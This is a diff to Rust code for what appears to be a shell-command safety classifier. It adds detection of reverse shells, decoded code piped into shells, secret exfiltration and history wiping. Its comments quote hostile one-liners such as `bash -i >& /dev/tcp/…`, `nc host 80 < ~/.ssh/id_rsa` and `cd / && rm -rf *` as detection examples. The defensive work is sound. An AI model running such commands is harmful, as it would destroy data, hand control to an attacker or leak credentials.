@@ -21,10 +21,26 @@
 //!   are not in git, so nothing brings them back. `-d`/`-x` only widen what it deletes.
 //! - `rm -r "$VAR"/` or `"$VAR"/*` counts: an empty variable turns it into `/`.
 //! - Downloading to a file and running it in a second step (`curl -o x.sh … && sh x.sh`) is not
-//!   flagged; piping or substituting a download into an interpreter is.
+//!   flagged; piping or substituting a download into an interpreter is. The same holds for
+//!   decoders (`base64 -d`, `xxd -r`, `gunzip`, `openssl enc -d`, `printf '\x..'`).
+//! - "System" paths are everything under `/etc`, `/usr`, `/var`, `/boot`, `/bin`, `/lib*`,
+//!   `/sbin`, `/run`, `/snap` and macOS's `/System`, `/Library`, `/Applications`, `/private`,
+//!   except temp folders and `/usr/local/*` (local installs: `sudo cp app /usr/local/bin/` is
+//!   ordinary). Home paths are a home folder and the folders directly in it (not caches such as
+//!   `~/.cache`), and anything under `~/.ssh` or `~/.gnupg`; deeper paths are project work.
+//! - `systemctl stop` counts as service removal (stopping `sshd` or a firewall is as bad as
+//!   disabling it); `restart`, `status` and `--user` queries do not. `crontab FILE` counts:
+//!   it replaces every scheduled job.
+//! - Using a key legitimately (`ssh -i ~/.ssh/id_rsa`, `curl --netrc-file ~/.netrc`) is not
+//!   exfiltration; sending a key file's content (`-d @`, `-F x=@`, `-T`, `scp key host:`,
+//!   piping it or the environment into `curl`/`nc`) is. Public keys (`.pub`) are not secrets.
+//! - Every `git push` that rewrites or deletes remote refs counts, whichever branch.
 
 mod category;
+mod host;
 mod lexer;
+mod network;
+mod paths;
 mod rules;
 mod words;
 mod wrappers;
@@ -48,9 +64,25 @@ pub fn classify(command: &str) -> Classification {
     }
 }
 
+/// Every simple command a command line runs, found the way [`classify`] finds them: each
+/// command of a chain, pipeline, subshell, substitution, `find -exec`, and of the strings given
+/// to `sh -c`, `eval` or `su -c` (which themselves are not listed). Each entry has the words
+/// as written and, after them, the words with wrappers (`sudo`, `env`, `timeout`, …) removed.
+pub fn commands(command: &str) -> Vec<(Vec<String>, Vec<String>)> {
+    let mut analyzer = Analyzer {
+        collected: Some(Vec::new()),
+        ..Analyzer::default()
+    };
+    analyzer.script(command, 0);
+    analyzer.collected.unwrap_or_default()
+}
+
 #[derive(Default)]
 struct Analyzer {
     hit: Option<Hit>,
+    /// When listing commands (see [`commands`]): every command found, and the walk does not
+    /// stop at the first hit.
+    collected: Option<Vec<(Vec<String>, Vec<String>)>>,
     /// Set once a `cd` moved to the root, a system folder or home (`cd / && rm -rf *`).
     cwd_root_like: Option<&'static str>,
     /// Variables assigned a literal earlier in the line (`x='rm -rf /'; $x`).
@@ -72,7 +104,7 @@ impl Analyzer {
     }
 
     fn done(&self) -> bool {
-        self.hit.is_some()
+        self.hit.is_some() && self.collected.is_none()
     }
 
     /// Checks a whole script (a command line, or the text of `sh -c`).
@@ -114,7 +146,7 @@ impl Analyzer {
             }
             for pipeline in lexer::pipelines(src) {
                 let argvs: Vec<Vec<String>> = pipeline.iter().map(|s| s.argv.clone()).collect();
-                self.pipeline(&argvs);
+                self.pipeline(&argvs, depth);
                 for stage in &pipeline {
                     for target in &stage.writes {
                         self.redirect_target(target);
@@ -136,10 +168,18 @@ impl Analyzer {
             Unwrapped::Nothing => return,
         };
         let name = base_name(&cmd[0]);
+        let mut transparent = matches!(name, "eval");
         if rules::is_shell(name)
             && let Some(script) = shell_c_script(cmd)
         {
+            transparent = true;
             self.script(script, depth + 1);
+        }
+        if matches!(name, "su" | "runuser") && su_script(cmd).is_some() {
+            transparent = true;
+        }
+        if let (Some(list), false) = (self.collected.as_mut(), transparent) {
+            list.push((argv.to_vec(), cmd.to_vec()));
         }
         match name {
             "eval" => self.script(&cmd[1..].join(" "), depth + 1),
@@ -196,8 +236,9 @@ impl Analyzer {
         self.record(rules::check(cmd));
     }
 
-    /// Checks a pipeline's stages for a download piped into an interpreter.
-    fn pipeline(&mut self, stages: &[Vec<String>]) {
+    /// Checks a pipeline's stages: a download or decoder piped into an interpreter, a shell
+    /// fed by a socket, a secret piped into a sender, literal text piped into a shell.
+    fn pipeline(&mut self, stages: &[Vec<String>], depth: usize) {
         if self.done() || stages.len() < 2 {
             return;
         }
@@ -208,25 +249,89 @@ impl Analyzer {
                 _ => None,
             })
             .collect();
-        let Some(first) = unwrapped
-            .iter()
-            .position(|s| s.is_some_and(rules::is_download))
-        else {
-            return;
+        let runner_after = |from: usize| {
+            unwrapped[from + 1..]
+                .iter()
+                .flatten()
+                .find(|s| rules::executes_stdin(s))
+                .map(|s| base_name(&s[0]).to_owned())
         };
-        if let Some(runner) = unwrapped[first + 1..]
+        for (i, stage) in unwrapped.iter().enumerate() {
+            let Some(stage) = stage else { continue };
+            let name = base_name(&stage[0]);
+            if rules::is_download(stage)
+                && let Some(runner) = runner_after(i)
+            {
+                return self.flag(
+                    Category::DownloadToShell,
+                    format!("`{name} … | {runner}` runs downloaded code"),
+                );
+            }
+        }
+        for (i, stage) in unwrapped.iter().enumerate() {
+            let stage = match stage {
+                Some(stage) => *stage,
+                None if !stages[i].is_empty() => stages[i].as_slice(),
+                None => continue,
+            };
+            let name = base_name(&stage[0]);
+            if network::is_decoder(stage)
+                && let Some(runner) = runner_after(i)
+            {
+                return self.flag(
+                    Category::DecodeToShell,
+                    format!("`{name} … | {runner}` runs decoded text as code"),
+                );
+            }
+            if (network::reads_secret(stage) || network::reads_secret(&stages[i]))
+                && let Some(sender) = unwrapped[i + 1..]
+                    .iter()
+                    .flatten()
+                    .find(|s| network::is_sender(s))
+            {
+                return self.flag(
+                    Category::CredentialExfiltration,
+                    format!(
+                        "`{name} … | {}` sends secrets over the network",
+                        base_name(&sender[0])
+                    ),
+                );
+            }
+        }
+        let socket = unwrapped
             .iter()
             .flatten()
-            .find(|s| rules::executes_stdin(s))
-        {
-            let download = unwrapped[first].map_or("curl", |s| base_name(&s[0]));
-            self.flag(
-                Category::DownloadToShell,
+            .find(|s| network::is_socket_stage(s));
+        let shell = unwrapped
+            .iter()
+            .flatten()
+            .find(|s| rules::is_shell(&s[0]) && rules::executes_stdin(s));
+        if let (Some(socket), Some(shell)) = (socket, shell) {
+            return self.flag(
+                Category::ReverseShell,
                 format!(
-                    "`{download} … | {}` runs downloaded code",
-                    base_name(&runner[0])
+                    "`{} … | {}` lets a network peer drive a shell",
+                    base_name(&socket[0]),
+                    base_name(&shell[0])
                 ),
             );
+        }
+        // `echo 'rm -rf /' | sh`: the echoed text is the script.
+        for (i, stage) in unwrapped.iter().enumerate() {
+            let Some(stage) = stage else { continue };
+            let feeds_shell = unwrapped
+                .get(i + 1)
+                .copied()
+                .flatten()
+                .is_some_and(|s| rules::is_shell(&s[0]) && rules::executes_stdin(s));
+            if feeds_shell && matches!(base_name(&stage[0]), "echo" | "printf") {
+                let text: Vec<&str> = stage[1..]
+                    .iter()
+                    .map(String::as_str)
+                    .filter(|a| !a.starts_with('-'))
+                    .collect();
+                self.script(&text.join(" ").replace("\\n", "\n"), depth + 1);
+            }
         }
     }
 
@@ -236,6 +341,56 @@ impl Analyzer {
                 Category::RawDiskWrite,
                 format!("`> {target}` overwrites a disk device"),
             );
+        } else if paths::account_path(target) {
+            self.flag(
+                Category::AccountChange,
+                format!("`> {target}` changes who may log in or become root"),
+            );
+        } else if paths::kernel_path(target) {
+            self.flag(
+                Category::KernelChange,
+                format!("`> {target}` changes a kernel setting"),
+            );
+        } else if paths::log_path(target) {
+            self.flag(
+                Category::LogWipe,
+                format!("`> {target}` overwrites a log or shell history"),
+            );
+        } else if paths::system_path(target) {
+            self.flag(
+                Category::SystemFileWrite,
+                format!("`> {target}` writes a file of the operating system"),
+            );
+        }
+    }
+
+    /// Redirections of one command: `bash -i >& /dev/tcp/…` (a reverse shell),
+    /// `cat ~/.ssh/id_rsa > /dev/tcp/…` and `nc host 80 < ~/.ssh/id_rsa` (secrets sent away).
+    fn socket_redirects(&mut self, argv: &[String], targets: &[String]) {
+        let Unwrapped::Command(cmd) = wrappers::unwrap(argv) else {
+            return;
+        };
+        let name = base_name(&cmd[0]);
+        for target in targets {
+            let socket = target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
+            if socket && rules::is_shell(name) {
+                return self.flag(
+                    Category::ReverseShell,
+                    format!("`{name} … {target}` connects a shell to a network socket"),
+                );
+            }
+            if socket && network::reads_secret(cmd) {
+                return self.flag(
+                    Category::CredentialExfiltration,
+                    format!("`{name} … > {target}` sends secrets over the network"),
+                );
+            }
+            if paths::mentions_secret(target) && network::is_sender(cmd) {
+                return self.flag(
+                    Category::CredentialExfiltration,
+                    format!("`{name} … < {target}` sends a secret over the network"),
+                );
+            }
         }
     }
 
@@ -249,16 +404,23 @@ impl Analyzer {
             match node.kind() {
                 "command" => self.tree_command(node, src, depth),
                 "pipeline" => {
-                    let mut cursor = node.walk();
-                    let stages: Vec<Vec<String>> = node
-                        .named_children(&mut cursor)
-                        .map(|stage| {
-                            stage_command(stage)
-                                .map(|c| command_words(c, src).0)
-                                .unwrap_or_default()
-                        })
+                    let mut stages = Vec::new();
+                    pipeline_stages(node, &mut stages);
+                    let stages: Vec<Vec<String>> = stages
+                        .into_iter()
+                        .map(|stage| stage.map(|c| command_words(c, src).0).unwrap_or_default())
                         .collect();
-                    self.pipeline(&stages);
+                    self.pipeline(&stages, depth);
+                }
+                "unset_command"
+                    if words::raw(node, src)
+                        .split_whitespace()
+                        .any(|w| w == "HISTFILE") =>
+                {
+                    self.flag(
+                        Category::LogWipe,
+                        "`unset HISTFILE` stops recording history",
+                    );
                 }
                 "function_definition" => self.fork_bomb(node, src),
                 "file_redirect" => {
@@ -276,10 +438,27 @@ impl Analyzer {
                         node.child_by_field_name("value"),
                     ) {
                         let value = words::text(value, src);
-                        self.vars.insert(words::raw(name, src).into_owned(), value);
+                        let name = words::raw(name, src).into_owned();
+                        if let Some(reason) = host::history_off(&format!("{name}={value}")) {
+                            self.flag(Category::LogWipe, reason);
+                        }
+                        self.vars.insert(name, value);
                     }
                 }
                 "redirected_statement" => {
+                    if let Some(body) = node
+                        .child_by_field_name("body")
+                        .filter(|b| b.kind() == "command")
+                    {
+                        let mut cursor = node.walk();
+                        let targets: Vec<String> = node
+                            .children_by_field_name("redirect", &mut cursor)
+                            .filter(|r| r.kind() == "file_redirect")
+                            .filter_map(|r| r.child_by_field_name("destination"))
+                            .map(|d| words::text(d, src))
+                            .collect();
+                        self.socket_redirects(&command_words(body, src).0, &targets);
+                    }
                     let runs_stdin = node
                         .child_by_field_name("body")
                         .filter(|b| b.kind() == "command")
@@ -311,11 +490,11 @@ impl Analyzer {
         if argv.is_empty() {
             return;
         }
-        // `$(curl …)` as the command itself runs what was downloaded.
-        if nodes.first().is_some_and(|n| has_download(*n, src)) {
+        // `$(curl …)` as the command itself runs what was downloaded (or decoded).
+        if let Some(category) = nodes.first().and_then(|n| code_source(*n, src)) {
             self.flag(
-                Category::DownloadToShell,
-                "the command runs the output of a download",
+                category,
+                "the command runs the output of a download or decoder",
             );
             return;
         }
@@ -331,11 +510,13 @@ impl Analyzer {
         let name = base_name(&cmd[0]);
         // `sh <(curl …)`, `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `source <(curl …)`.
         if (rules::is_interpreter(name) || name == "eval")
-            && nodes[offset + 1..].iter().any(|n| has_download(*n, src))
+            && let Some(category) = nodes[offset + 1..]
+                .iter()
+                .find_map(|n| code_source(*n, src))
         {
             self.flag(
-                Category::DownloadToShell,
-                format!("`{name}` runs code produced by a download"),
+                category,
+                format!("`{name}` runs code produced by a download or decoder"),
             );
             return;
         }
@@ -343,10 +524,10 @@ impl Analyzer {
         let mut cursor = node.walk();
         for redirect in node.children_by_field_name("redirect", &mut cursor) {
             if redirect.kind() == "herestring_redirect" && rules::executes_stdin(cmd) {
-                if has_download(redirect, src) {
+                if let Some(category) = code_source(redirect, src) {
                     self.flag(
-                        Category::DownloadToShell,
-                        format!("`{name} <<<` runs code produced by a download"),
+                        category,
+                        format!("`{name} <<<` runs code produced by a download or decoder"),
                     );
                     return;
                 }
@@ -438,14 +619,23 @@ impl Analyzer {
     }
 }
 
-/// The command node of a pipeline stage (looking through redirections).
-fn stage_command(stage: Node<'_>) -> Option<Node<'_>> {
-    match stage.kind() {
-        "command" => Some(stage),
-        "redirected_statement" => stage
-            .child_by_field_name("body")
-            .filter(|b| b.kind() == "command"),
-        _ => None,
+/// The command nodes of a pipeline's stages, in order, looking through redirections and
+/// the nested pipelines the grammar makes of `a | b 2>&1 | c` (`None` for a stage that is
+/// not a simple command).
+fn pipeline_stages<'t>(node: Node<'t>, out: &mut Vec<Option<Node<'t>>>) {
+    let mut cursor = node.walk();
+    for stage in node.named_children(&mut cursor) {
+        match stage.kind() {
+            "command" => out.push(Some(stage)),
+            "pipeline" => pipeline_stages(stage, out),
+            "redirected_statement" => match stage.child_by_field_name("body") {
+                Some(body) if body.kind() == "command" => out.push(Some(body)),
+                Some(body) if body.kind() == "pipeline" => pipeline_stages(body, out),
+                _ => out.push(None),
+            },
+            "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {}
+            _ => out.push(None),
+        }
     }
 }
 
@@ -474,22 +664,25 @@ fn shell_reads_stdin(argv: &[String]) -> bool {
     }
 }
 
-/// Whether a download command appears anywhere inside `node` (e.g. in `$(…)` or `<(…)`).
-fn has_download(node: Node<'_>, src: &str) -> bool {
+/// Whether a download (or else a decoder) appears anywhere inside `node` (e.g. in `$(…)` or
+/// `<(…)`): the category of running its output.
+fn code_source(node: Node<'_>, src: &str) -> Option<Category> {
+    let mut decoded = false;
     let mut stack = vec![node];
     while let Some(n) = stack.pop() {
         if n.kind() == "command" {
             let (argv, _) = command_words(n, src);
-            if let Unwrapped::Command(cmd) = wrappers::unwrap(&argv)
-                && rules::is_download(cmd)
-            {
-                return true;
+            if let Unwrapped::Command(cmd) = wrappers::unwrap(&argv) {
+                if rules::is_download(cmd) {
+                    return Some(Category::DownloadToShell);
+                }
+                decoded |= network::is_decoder(cmd);
             }
         }
         let mut cursor = n.walk();
         stack.extend(n.children(&mut cursor));
     }
-    false
+    decoded.then_some(Category::DecodeToShell)
 }
 
 /// The command string of `sh -c 'cmd'` (options may be bundled: `bash -lc`, `sh -ec`).
